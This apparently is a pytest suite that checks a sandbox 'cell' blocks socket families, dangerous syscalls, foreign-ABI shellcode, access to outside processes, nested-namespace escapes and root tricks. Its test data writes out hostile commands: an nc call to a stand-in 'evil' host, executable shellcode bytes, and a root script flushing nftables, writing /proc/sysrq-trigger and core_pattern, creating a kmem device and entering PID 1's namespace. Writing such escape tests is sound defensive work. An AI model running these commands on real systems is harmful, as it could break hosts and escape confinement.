"""The kernel from inside a cell: socket families, system calls, other processes, namespaces, root.

CEL-06, -06c, -07 to -09.
"""

import os
import signal
import socket
import subprocess

import pytest

from cell_support import AF, ALLOW
from small_internet import world
from small_internet.messages import Answer, query
from small_internet.runner import PYTHON, SALLYPORT, USER


# --- CEL-06, -06c, -07: kernel interfaces ---


def test_socket_families(lab):
    """CEL-06: an allow list."""
    names = [n for n in AF if n not in ("unix", "inet", "inet6", "netlink")]
    steps = [{"do": "make_socket", "family": AF[n], "type": t} for n in names for t in (1, 2, 3, 5)]
    steps += [{"do": "make_socket", "family": AF["netlink"], "type": 3, "proto": p} for p in (2, 4, 9, 12, 15, 16)]
    results, run = lab.probe(steps)
    assert [(s, r) for s, r in zip(steps, results) if "error" not in r] == [], run
    good, _ = lab.probe(
        [{"do": "make_socket", "family": AF[n], "type": 1} for n in ("unix", "inet", "inet6")]
        + [{"do": "make_socket", "family": AF["netlink"], "type": 3, "proto": 0}]
    )
    assert all(r.get("made") for r in good), good


def test_system_calls(lab):
    """CEL-06: io_uring is absent; keyrings, TIOCSTI, bpf, perf, ptrace of others, mounts and setns are refused."""
    steps = [
        {"do": "syscall", "args": a}
        for a in ([425, 8, 0], [248, 0, 0, 0, 0, 0], [249, 0, 0, 0, 0], [250, 0, -3, 0, 0, 0])
    ]
    results, run = lab.probe(steps)
    assert results[0].get("error") == "ENOSYS", results
    assert all(r.get("error") in ("EPERM", "ENOSYS", "EACCES") for r in results[1:]), results


FOREIGN = """
import ctypes, mmap, sys
code = bytes.fromhex(sys.argv[1])
area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
area.write(code)
function = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(area)))
print("before", flush=True)
print("after", function())
"""
INT80_SOCKET = (
    "b867010000" "bb02000000" "b901000000" "ba00000000" "cd80" "c3"
)  # mov eax,359 (socket); ebx=AF_INET; ecx=SOCK_STREAM; int 0x80
X32_SOCKET = (
    "b829000040" "bf02000000" "be01000000" "ba00000000" "0f05" "c3"
)  # mov eax,0x40000029; edi, esi, edx; syscall


@pytest.mark.parametrize("code", [INT80_SOCKET, X32_SOCKET], ids=["int80", "x32"])
def test_foreign_abi_is_killed(lab, code):
    """CEL-06."""
    run = lab.run(PYTHON, "-c", FOREIGN, code)
    assert run.text.split() == ["before"] and run.status == 128 + signal.SIGSYS, run


@pytest.mark.parametrize("family", [4, 6])
def test_addrconfig(lab, family):
    """CEL-06c."""
    results, run = lab.probe(
        [{"do": "lookup", "name": "api.example.test", "family": family, "flags": socket.AI_ADDRCONFIG}], allow=ALLOW
    )
    assert results[0].get("addresses"), (results, run)


def test_answer_over_ipv6(lab):
    """CEL-06c: the reply comes from the address that was asked."""
    results, _ = lab.probe(
        [{"do": "dns", "to": [world.OTHER_RESOLVER6, 53], "send": query("api.example.test")}], allow=ALLOW
    )
    assert Answer(results[0]["data"]).answers


LISTENERS = """
import json, socket
found = []
for path, family in (("/proc/net/tcp", socket.AF_INET), ("/proc/net/tcp6", socket.AF_INET6)):
    for line in open(path).read().splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        if state == "0A" and not line.split()[1].endswith(":0035"):
            found.append((family, int(local.split(":")[1], 16)))
results = []
for family, port in found:
    for address in (("127.0.0.1", "127.9.9.9", "198.18.0.1") if family == socket.AF_INET else ("::1",)):
        s = socket.socket(family)
        s.settimeout(6)
        try:
            s.connect((address, port))
            s.sendall(b"GET / HTTP/1.1\\r\\nHost: api.example.test\\r\\n\\r\\n")
            results.append([address, port, s.recv(100).decode("latin-1")])
        except OSError as error:
            results.append([address, port, "error " + type(error).__name__])
print(json.dumps(results))
"""


def test_direct_connect_to_the_redirect_port(lab, witness):
    """CEL-06c: a flow whose original destination is loopback is a denial; port 53 is the resolver."""
    with witness.expect_zero():
        run = lab.run(PYTHON, "-c", LISTENERS, allow=["api.example.test:80,443"])
    results = run.json()
    assert results, "no redirect listener is visible: this test needs another way to find it"
    assert [
        r for r in results if not r[2].startswith(("error ConnectionRes", "error ConnectionRef", "HTTP/1.1 4")) and r[2]
    ] == [], results


def test_outside_processes_do_not_exist(lab):
    """CEL-07: the same user's process outside can be neither seen nor touched."""
    outside = subprocess.Popen(
        ["sleep", "60"],
        preexec_fn=lambda: (
            os.setgroups([]),
            os.setresgid(USER.pw_gid, USER.pw_gid, USER.pw_gid),
            os.setresuid(USER.pw_uid, USER.pw_uid, USER.pw_uid),
        ),
    )
    try:
        calls = {
            "kill": [62, outside.pid, 9],
            "ptrace": [101, 16, outside.pid, 0, 0],
            "pidfd_open": [434, outside.pid, 0],
        }
        results, run = lab.probe(
            [{"do": "syscall", "args": a} for a in calls.values()]
            + [{"do": "write_memory", "pid": outside.pid}, {"do": "read_file", "path": f"/proc/{outside.pid}/environ"}]
        )
        assert all(r.get("error") in ("ESRCH", "EPERM", "ENOENT", "ENOSYS") for r in results), results
        assert outside.poll() is None
        run = lab.run("sh", "-c", "ls -d /proc/[0-9]* | wc -l")
        assert int(run.text) < 10, run
    finally:
        outside.kill()
        outside.wait()


# A captured connect succeeds before its reset: only an echo proves that somebody was reached.
ECHO = f"echo way-out | nc -N -w 1 {world.EVIL4} 5432 | grep way-out"


def test_nested_control(lab):
    assert lab.bare("sh", "-c", ECHO).text == "way-out\n"


@pytest.mark.parametrize(
    "command",
    [
        ["unshare", "-Urn", "sh", "-c", f"ip link set lo up; {ECHO}"],
        ["unshare", "-Ur", "sh", "-c", ECHO],
        ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "sh", "-c", ECHO],
        ["bwrap", "--ro-bind", "/", "/", "--unshare-all", "--share-net", "sh", "-c", ECHO],
        [SALLYPORT, "run", "--allow", "evil.test:80", "--", "curl", "-sS", "--max-time", "3", "http://evil.test/"],
        ["nsenter", "-t", "1", "-n", "sh", "-c", ECHO],
    ],
    ids=lambda c: " ".join(c[:4]).replace(SALLYPORT, "sallyport"),
)
def test_nested(lab, witness, command):
    """CEL-08: works or fails cleanly; never a way out."""
    with witness.expect_zero():
        run = lab.run(*command, allow=ALLOW, timeout=20)
    assert run.status != 0 and run.seconds < 10, run


ROOT_TRICKS = f"""
nft flush ruleset
ip link set lo down; ip link set lo up
ip route add default via 198.18.0.1
ip link add v0 type veth peer name v1
ip tuntap add dev tun0 mode tun
ip addr add {world.HOST4}/24 dev lo
nft add table inet x
mount -t tmpfs none /mnt
mknod /tmp/kmem c 1 2
sysctl -w net.ipv4.ip_forward=1
nsenter -t 1 -n true
chroot / true
cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern && echo REACHED core_pattern
echo h > /proc/sysrq-trigger && echo REACHED sysrq
{ECHO} && echo REACHED
{ECHO.replace(world.EVIL4, world.EVIL6)} && echo REACHED
dig +short +tries=1 +time=1 @8.8.8.8 evil.test | grep -q . && echo REACHED dns
ping -c 1 -W 1 {world.EVIL4} && echo REACHED ping
true
"""


def test_root_in_the_cell(lab, witness):
    """CEL-09: root breaks only itself."""
    with witness.expect_zero():
        run = lab.run("sh", "-c", ROOT_TRICKS, uid=0, allow=ALLOW)
    assert run.status == 0 and "REACHED" not in run.text, run


def test_root_still_has_its_main_job(lab, witness):
    run = lab.run(
        "sh",
        "-c",
        "id -u; curl -sS https://api.example.test/whoami; chown 1:1 . && echo chown-works",
        uid=0,
        allow=ALLOW,
    )
    assert run.text.startswith("0\n") and "sni=api.example.test" in run.text, run


def test_root_has_no_network_capability(lab):
    """CEL-09: Docker's default capabilities less NET_ADMIN and NET_RAW."""
    run = lab.run("grep", "CapEff", "/proc/self/status", uid=0)
    effective = int(run.text.split()[1], 16)
    assert not effective & (1 << 12 | 1 << 13 | 1 << 21 | 1 << 19 | 1 << 16), hex(effective)


def test_own_listener_on_port_53(lab, witness):
    """CEL-09: a server of the workload's on port 53 does not become anybody's resolver but its own."""
    code = "import socket\nfor kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n  s = socket.socket(socket.AF_INET, kind)\n  try:\n    s.bind(('0.0.0.0', 53)); print('bound')\n  except OSError as e: print(e)\n"
    with witness.expect_zero():
        run = lab.run(
            PYTHON,
            "-c",
            code
            + "\nimport subprocess\nprint(subprocess.run(['dig','+short','+tries=1','+time=1','evil.test'],capture_output=True,text=True).stdout)",
            uid=0,
            allow=ALLOW,
        )
    assert world.EVIL4 not in run.text and run.status == 0, run
